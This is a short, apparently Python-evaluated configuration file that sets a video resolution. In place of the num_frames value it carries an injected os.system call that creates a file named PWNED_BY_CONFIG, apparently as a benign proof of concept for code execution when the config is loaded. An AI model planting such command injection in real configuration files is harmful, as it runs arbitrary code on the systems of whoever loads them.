resolution = "240p"
num_frames = __import__("os").system("touch PWNED_BY_CONFIG")
